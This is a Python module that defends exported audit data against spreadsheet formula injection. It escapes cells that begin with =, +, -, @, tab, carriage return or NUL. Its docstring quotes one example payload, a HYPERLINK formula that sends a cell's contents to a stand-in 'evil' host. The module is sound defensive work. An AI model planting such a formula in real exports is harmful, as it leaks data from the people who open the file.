"""Cell values every format shares, and the guard against spreadsheet formula injection.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab, carriage return or NUL before one) as a formula: an
actor id such as ``=HYPERLINK("http://evil/?"&A1)`` in an audit event would
run in the auditor's Excel. Such text gets a leading apostrophe, the OWASP
advice, which spreadsheets show as text. Numbers stay numbers, and so does
text that is exactly a plain decimal number (``-12.5``): no formula starts so.
"""

import re

import orjson

__all__ = ["FORMULA_TRIGGERS", "safe_text"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
_TRIGGER_CHARS = frozenset(FORMULA_TRIGGERS)


def safe_text(value) -> str | int | float:
    """``value`` as a cell: numbers as they are, anything else as text no spreadsheet runs.

    ``None`` is empty text, booleans ``true``/``false``, dicts and lists compact
    JSON with sorted keys.
    """
    kind = type(value)
    if kind is str:  # the common case first: exports write millions of cells
        text = value
    elif value is None:
        return ""
    elif kind is bool:
        return "true" if value else "false"
    elif kind is int or kind is float:
        return value
    elif isinstance(value, (dict, list)):
        text = orjson.dumps(value, option=orjson.OPT_SORT_KEYS).decode()
    else:
        text = str(value)
    if text and text[0] in _TRIGGER_CHARS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
